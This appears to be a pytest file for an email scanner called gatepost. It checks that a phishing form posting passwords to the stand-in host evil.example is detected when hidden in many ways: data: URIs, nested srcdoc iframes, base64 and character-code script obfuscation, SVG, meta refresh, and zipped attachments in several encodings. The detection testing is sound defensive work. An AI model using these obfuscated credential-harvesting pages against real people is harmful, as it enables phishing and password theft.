"""One page that asks for a password, in every form in which a browser would show it."""

import base64
import codecs
from collections.abc import Callable
from html import escape
from urllib.parse import quote

import pytest
from tests.files.archive_formats import zipped
from tests.variants import one_in

from gatepost.files.walk import find_files
from gatepost.mail.reader import read

FORM = '<form action="https://evil.example/post"><input type="password" name="p"></form>'
CODED = base64.b64encode(FORM.encode()).decode()
FRAME = f"<iframe srcdoc='{escape(FORM)}'></iframe>"
DATA = f"data:text/html;base64,{CODED}"


def _entities(text: str) -> str:
    return "".join(f"&#{ord(char)};" for char in text)


PAGES = {
    "document": f"<!doctype html><html><body>{FORM}</body></html>",
    "fragment, div": f"<div>Sign in{FORM}</div>",
    "fragment, form": FORM,
    "fragment, text first": f"Please sign in {FORM}",
    "fragment, comment first": f"<!-- saved -->\n<table><tr><td>{FORM}</table>",
    "srcdoc": f"<iframe srcdoc='{FORM}'></iframe>",
    "srcdoc, entities": f'<iframe srcdoc="{escape(FORM)}"></iframe>',
    "srcdoc in srcdoc": f'<iframe srcdoc="{escape(FRAME)}"></iframe>',
    "data frame": f"<iframe src='{DATA}'></iframe>",
    "data frame, entities": f"<iframe src='{_entities(DATA)}'></iframe>",
    "data frame, one entity": f"<iframe src='&#100;ata:text/html,{quote(FORM)}'></iframe>",
    "data object": f"<object data='{DATA}'></object>",
    "data link": f"<a href='&#x64;ata:text/html;charset=utf-8;base64,{CODED}'>Open</a>",
    "data refresh": f"<meta http-equiv=refresh content='0;url={DATA}'>",
    "script": f"<script>document.write('{FORM}')</script>",
    "script, pieces": "<div id=a></div><script>var h = "
    + "+".join(f"'{char}'" for char in FORM)
    + ";a.innerHTML=h</script>",
    "script, atob": f"<script>document.write(atob('{CODED}'))</script>",
    "script, atob of pieces": "<script>document.write(atob(["
    + ",".join(f"'{char}'" for char in CODED)
    + "].join('')))</script>",
    "script, unescape": f"<script>document.write(unescape('{quote(FORM, safe='')}'))</script>",
    "script, numbers": "<script>document.write(String.fromCharCode("
    + ",".join(str(ord(char)) for char in FORM)
    + "))</script>",
    "script, location": f"<script>location.href='{DATA}'</script>",
    "handler": f"<body onload=\"document.write(atob('{CODED}'))\">",
    "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">{FORM}</body></foreignObject></svg>',
    "svg, script": f"<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[document.write(atob('{CODED}'))]]></script></svg>",
    "template": f"<template>{FORM}</template><script>document.body.append(t.content)</script>",
    "noscript": f"<noscript>{FORM}</noscript>",
}
ENCODINGS: dict[str, Callable[[str], bytes]] = {
    "utf-8": str.encode,
    "utf-8 with mark": lambda text: codecs.BOM_UTF8 + text.encode(),
    "utf-16-le with mark": lambda text: codecs.BOM_UTF16_LE + text.encode("utf-16-le"),
    "utf-16-be with mark": lambda text: codecs.BOM_UTF16_BE + text.encode("utf-16-be"),
}
DECLARED = (
    "application/octet-stream",
    "text/html",
    "text/html; charset=iso-8859-1",
    "text/plain; charset=us-ascii",
    "image/svg+xml",
    "in a zip",
)


def mail(content: bytes, declared: str) -> bytes:
    name = "page.html"
    if declared == "in a zip":
        content, name, declared = zipped(name, content), "page.zip", "application/zip"
    head = f"From: a@b.example\r\nContent-Type: {declared}\r\nContent-Transfer-Encoding: base64\r\n"
    head += f'Content-Disposition: attachment; filename="{name}"\r\n\r\n'
    return head.encode() + base64.encodebytes(content)


@pytest.mark.parametrize("page", one_in(3, PAGES))
@pytest.mark.parametrize("encoding", ENCODINGS)
def test_the_form_is_found(page: str, encoding: str) -> None:
    missing = []
    for declared in DECLARED:
        message = read(mail(ENCODINGS[encoding](PAGES[page]), declared))
        files = find_files(message)
        traits = {trait.name for file in files for trait in file.traits}
        hosts = {link.host for link in (*message.links, *(link for file in files for link in file.links))}
        if "page-password-field" not in traits or "evil.example" not in hosts:
            missing.append((declared, sorted(traits), sorted(hosts)))
    assert not missing
